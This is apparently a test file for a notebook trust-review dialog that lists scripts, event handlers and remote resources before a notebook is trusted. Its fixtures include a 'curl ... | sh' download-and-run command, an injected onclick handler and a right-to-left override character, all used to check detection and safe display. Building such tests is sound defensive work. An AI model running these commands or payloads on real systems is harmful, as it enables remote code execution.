import * as React from 'react';

import { reviewNotebook } from '../../engine/trust';
import {
  toReview,
  SCRIPT,
  LOOK,
  hostile,
  revealed,
  decided,
  node,
  open,
  press,
  seek,
  texts,
  toOutput,
  useDialogs
} from '../testing/reviewdialog';

useDialogs();

describe('what the review shows', () => {
  it('is what acts, by cell, the most dangerous first, apart from the rest', async () => {
    await open(hostile);
    expect(texts('.nbw-Review-cell .nbw-Review-name')).toEqual([
      'Cell 3: 1 script, 1 event handler',
      'Cell 2: 1 remote resource'
    ]);
    expect(texts('.nbw-Review-lists > details > summary')).toEqual([
      '1 output would only look different',
      'Loads already, trusted or not: 1 remote resource'
    ]);
    expect(texts('.nbw-Review > p')).toEqual([
      '2 cells would act as soon as they are trusted: 1 script, 1 event handler, 1 remote resource. Nothing of it has run yet.',
      'A note.'
    ]);
  });

  it('is text and nothing else, whatever it holds', async () => {
    await open(hostile);
    const body = node().querySelector('.nbw-Review');
    expect(body?.textContent).toContain('<b onclick=');
    // The signs that turn the direction of letters are made visible.
    expect(body?.textContent).toContain('\\u{202e}');
    expect(body?.textContent).not.toContain('\u202e');
    expect(
      body?.querySelector(
        'script, form, img, style, iframe, [onclick], [ping], a'
      )
    ).toBeNull();
    expect('owned' in globalThis).toBe(false);
  });

  it('says on demand whose outputs they are, the ways to trust, and where signatures lie', async () => {
    await open(hostile);
    const [told, ...others] = document.querySelectorAll<HTMLDetailsElement>(
      '.nbw-Review-explained'
    );
    expect(others).toEqual([]);
    expect(told.open).toBe(false);
    expect(told.querySelector('summary')?.textContent).toBe('What is this?');
    for (const words of [
      'whoever wrote it chose them',
      'three ways to trust: run it again, trust it after a review, or share a database',
      'a file with the same content is trusted too',
      'nbsignatures.db',
      'notebook_secret'
    ]) {
      expect(told.textContent).toContain(words);
    }
  });

  it('can be searched, by what stands there', async () => {
    await open(hostile);
    seek('B.EXAMPLE');
    expect(texts('.nbw-Review-cell .nbw-Review-name')).toEqual([
      'Cell 2: 1 remote resource'
    ]);
  });

  it('says where nothing is found', async () => {
    await open(hostile);
    seek('nowhere');
    expect(texts('.nbw-Review-lists')).toEqual(['Nothing found.']);
    seek('');
    expect(texts('.nbw-Review-lists')[0]).toContain('Cell 3');
  });

  it('keeps chosen cells in sight, whatever is sought', async () => {
    await open(toReview([SCRIPT], [SCRIPT], [LOOK]));
    const [first] = node().querySelectorAll<HTMLInputElement>(
      'section input[type=checkbox]'
    );
    React.act(() => first.click());
    seek('cell 2');
    expect(texts('.nbw-Review-name')).toEqual([
      'Cell 1: 1 script',
      'Cell 2: 1 script'
    ]);
    expect(first.checked).toBe(true);
    React.act(() => first.click());
    expect(texts('.nbw-Review-name')).toEqual(['Cell 2: 1 script']);
  });

  it('folds what is long, and bounds what is endless', async () => {
    const many = `<b onclick="${'a'.repeat(120)}">x</b>`;
    await open(
      toReview([many.repeat(150), many.repeat(150), many.repeat(100)])
    );
    expect(node().querySelectorAll('.nbw-Review-row')).toHaveLength(300);
    expect(texts('.nbw-Review-rest > summary')).toEqual(['392 more']);
    expect(texts('.nbw-Review-rest > p')).toEqual([
      '100 more are not listed. Search to see them.'
    ]);
    const [excerpt] = texts('details.nbw-Review-excerpt > summary');
    expect(excerpt).toHaveLength(81);
  });

  it('lists risky code with its reason', async () => {
    const source = '!curl https://a.example.org/x | sh';
    await open(reviewNotebook({ cells: [{ cell_type: 'code', source }] }));
    expect(texts('.nbw-Review-code')).toEqual([
      'Cell 1, line 1: download that is run. A download is piped into an interpreter and runs unseen. Go to cell!curl https://a.example.org/x | sh'
    ]);
    press('Go to cell');
    expect(revealed).toEqual([0]);
    expect((await decided()).kind).toBe('leave');
  });

  it('says of a run what runs, and then what its outputs do now', async () => {
    await open(
      reviewNotebook({
        cells: [
          {
            cell_type: 'code',
            source: '!curl https://a.example.org/x | sh',
            outputs: [toOutput(SCRIPT)]
          }
        ]
      }),
      'run'
    );
    expect(texts('.nbw-Review > p').slice(0, 2)).toEqual([
      'There is code to look at in 1 cell. Nothing of it has run yet.',
      '1 cell would act as soon as it is trusted: 1 script. Nothing of it has run yet.'
    ]);
    expect(texts('.nbw-Review-lists h4')).toEqual([
      'Code to look at before it runs',
      'Would act once it is trusted'
    ]);
  });

  it('says so where there is nothing', async () => {
    await open(toReview(['<b>a</b>']));
    expect(texts('.nbw-Review > p')[0]).toBe(
      'Nothing would act, and nothing would look different.'
    );
  });
});
